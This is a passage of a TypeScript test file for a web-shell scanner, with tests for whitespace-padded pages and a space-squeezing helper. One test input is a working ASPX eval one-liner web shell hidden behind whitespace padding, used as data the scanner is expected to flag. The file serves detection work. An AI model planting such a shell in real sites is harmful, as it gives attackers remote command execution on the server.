    const aspx = scan(`<%@ Page Language="Jscript" %><% eval(${pad}\n${pad}Request.Item["z"], "unsafe"); %>`, '/www/e.aspx');
    assert.equal(aspx.verdict, 'malicious', JSON.stringify(aspx.findings));
    // (a page laid out with long runs of white space, and nothing else, is still clean)
    const page = scan(`<?php echo "a";${pad}?>\n<p>${'&nbsp;'.repeat(10)}</p>${pad}<?php echo htmlspecialchars($_GET['q'] ?? ''); ?>`, '/www/ok.php');
    assert.equal(page.verdict, 'clean', JSON.stringify(page.findings));
  });
  it('squeezeSpace: every run made one, a newline kept, where a run reaches 1,024 (or 96 inside a statement, session 30); nothing made where none does', () => {
    assert.equal(squeezeSpace(`a;${' '.repeat(1023)}b`), undefined);
    assert.equal(squeezeSpace(`a{${' '.repeat(1023)}b}`), undefined);
    assert.equal(squeezeSpace(`a(${' '.repeat(95)}b)`), undefined);
    assert.equal(squeezeSpace(`a(${' '.repeat(96)}b)`)!.trimEnd(), 'a( b)');
    const text = `a;${' '.repeat(1024)}b${' '.repeat(63)}c${' \n'.repeat(40)}d\v\f${'\t'.repeat(70)}e  f`;
    const squeezed = squeezeSpace(text)!;
    assert.equal(squeezed.trimEnd(), 'a; b c\nd e f');
    // (what the runs held is put back at the end: a rule's filesize sees the file's, red team S29W-7)
    assert.equal(squeezed.length, text.length);
    // (many runs just under the bound: one pass, not a pattern tried at each position)
    const many = `${' '.repeat(1023)}x;`.repeat(2000);
    assert.equal(squeezeSpace(many), undefined);
    assert.equal(squeezeSpace(`${many}${' '.repeat(1024)}`)!.trimEnd().length, 2000 * 3);
  });
  it('ran every case', () => {
    assert.equal(RED_TEAM.length, 21);
    assert.equal(RED_TEAM_BENIGN.length, 12);
    assert.equal(FLAGGED.length, 11);
    assert.equal(BENIGN.length, 6);
  });
});
